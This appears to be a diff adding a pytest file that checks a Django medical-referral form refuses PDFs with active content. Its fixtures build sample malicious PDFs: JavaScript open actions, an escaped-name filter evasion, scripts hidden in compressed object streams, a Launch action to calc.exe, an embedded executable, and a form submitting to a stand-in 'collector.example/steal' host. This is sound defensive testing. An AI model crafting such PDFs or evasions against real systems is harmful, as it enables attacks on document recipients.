@@ -1,0 +1,193 @@
+"""PDFs carrying scripts, actions that reach outside them, or attached files are refused at the
+form, however they are written (security test findings, issue 16); plain PDFs and links pass."""
+
+import io
+
+import pikepdf
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from pikepdf import Array, Dictionary, Name, String
+
+from appointments import uploads
+from appointments.models import AppointmentRequest, Attachment
+
+REFER = "/appointments/refer/"
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
+REFUSED = (
+    "contains scripts, actions or attached files, so we cannot accept it. Please print it to a "
+    "new PDF (“Microsoft Print to PDF” or “Save as PDF”) and send that, or fax it to us."
+)
+
+
+def saved(document, **options):
+    output = io.BytesIO()
+    document.save(output, deterministic_id=True, **options)
+    return output.getvalue()
+
+
+def letter(pages=1):
+    document = pikepdf.new()
+    for _ in range(pages):
+        document.add_blank_page(page_size=(612, 792))
+    return document
+
+
+def with_open_action(**action):
+    document = letter()
+    document.Root.OpenAction = document.make_indirect(Dictionary(Type=Name.Action, **action))
+    return document
+
+
+def with_link(document, action):
+    """A link annotation on the first page that runs `action` when clicked."""
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], A=action)
+    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(link)]))
+    return document
+
+
+def javascript_in_open_action():
+    return saved(with_open_action(S=Name.JavaScript, JS=String("app.alert('hi');//xx")))
+
+
+def javascript_with_escaped_name():
+    """/JavaScript written /J#61vaScript in the file itself; the script loses two characters in
+    the same object, so every offset in the cross-reference table stays right."""
+    data = javascript_in_open_action()
+    escaped = data.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"//xx)", b"//)")
+    assert len(escaped) == len(data) and b"/J#61vaScript" in escaped
+    assert b"/JavaScript" not in escaped
+    return escaped
+
+
+def javascript_in_compressed_object_stream():
+    """A page's open action, inside a compressed object stream."""
+    document = letter()
+    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
+    data = saved(
+        document,
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+        compress_streams=True,
+    )
+    assert b"JavaScript" not in data and b"/ObjStm" in data
+    return data
+
+
+def launch_action():
+    return saved(with_open_action(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))
+
+
+def embedded_executable():
+    document = letter()
+    document.attachments["update.exe"] = pikepdf.AttachedFileSpec(document, EXE)
+    return saved(document)
+
+
+def form_that_submits():
+    action = Dictionary(
+        S=Name.SubmitForm,
+        F=Dictionary(FS=Name.URL, F=String("https://collector.example/steal")),
+    )
+    return saved(with_link(letter(), action))
+
+
+def javascript_link():
+    return saved(with_link(letter(), Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))))
+
+
+ATTACKS = {
+    "javascript-open-action": javascript_in_open_action,
+    "escaped-name": javascript_with_escaped_name,
+    "compressed-object-stream": javascript_in_compressed_object_stream,
+    "launch": launch_action,
+    "embedded-file": embedded_executable,
+    "submit-form": form_that_submits,
+    "javascript-link": javascript_link,
+}
+
+
+def refer(client, physician_data, *files):
+    return client.post(REFER, {**physician_data, "attachments": list(files)})
+
+
+def stored_files(root):
+    return [path for path in root.rglob("*") if path.is_file()]
+
+
+@pytest.mark.parametrize("make", ATTACKS.values(), ids=ATTACKS.keys())
+def test_a_pdf_with_active_content_is_refused_and_nothing_is_saved(
+    client, physician_data, private_root, make
+):
+    upload = SimpleUploadedFile("records.pdf", make(), content_type="application/pdf")
+    response = refer(client, physician_data, upload)
+    assert response.status_code == 200
+    assert f"“records.pdf” {REFUSED}" in response.text
+    assert 'value="Okafor"' in response.text
+    assert not AppointmentRequest.objects.exists()
+    assert stored_files(private_root) == []
+
+
+def test_pikepdf_reads_escaped_names_and_compressed_object_streams_as_a_viewer_does():
+    """What the walk relies on: the escaped name is /JavaScript once parsed, and the action in
+    the object stream is there to be found."""
+    with pikepdf.open(io.BytesIO(javascript_with_escaped_name())) as document:
+        assert str(document.Root.OpenAction.S) == "/JavaScript"
+    with pikepdf.open(io.BytesIO(javascript_in_compressed_object_stream())) as document:
+        assert any(
+            isinstance(item, Dictionary) and item.get("/AA") is not None
+            for item in document.objects
+        )
+
+
+def link_to_the_practice():
+    document = letter(pages=2)
+    links = [
+        Dictionary(S=Name.URI, URI=String("https://prairie-family.example/")),
+        Dictionary(S=Name.URI, URI=String("mailto:referrals@prairie-family.example")),
+    ]
+    for page, action in zip(document.pages, links, strict=True):
+        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720])
+        annotation.A = action
+        page.Annots = Array([document.make_indirect(annotation)])
+    return saved(document)
+
+
+@pytest.mark.parametrize(
+    ("data", "pages"),
+    [(link_to_the_practice(), 2), (saved(letter(pages=7)), 7)],
+    ids=["web-and-mail-links", "seven-pages"],
+)
+def test_a_plain_pdf_is_kept_as_sent_with_its_pages_counted(
+    client, physician_data, private_root, data, pages
+):
+    upload = SimpleUploadedFile("records.pdf", data, content_type="application/pdf")
+    assert refer(client, physician_data, upload).status_code == 302
+    attachment = Attachment.objects.get()
+    assert attachment.pages == pages
+    (path,) = stored_files(private_root)
+    assert path.read_bytes() == data
+
+
+def many_objects(count):
+    document = letter()
+    document.Root.Notes = Array(
+        [document.make_indirect(Dictionary(Number=number)) for number in range(count)]
+    )
+    return saved(
+        document, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
+    )
+
+
+@pytest.mark.parametrize(
+    ("limit", "value"),
+    [("MAX_PDF_OBJECTS", 1_000), ("MAX_PDF_OBJECT_STREAM_BYTES", 20_000)],
+)
+def test_a_pdf_too_large_to_examine_is_refused_before_it_is_parsed(
+    client, physician_data, private_root, monkeypatch, limit, value
+):
+    """2,000 objects, packed into ~30 KB of object streams: past either limit set low here."""
+    monkeypatch.setattr(uploads, limit, value)
+    upload = SimpleUploadedFile("chart.pdf", many_objects(2_000), content_type="application/pdf")
+    response = refer(client, physician_data, upload)
+    assert "“chart.pdf” is built from more parts than we can check." in response.text
+    assert not AppointmentRequest.objects.exists()
+    assert stored_files(private_root) == []
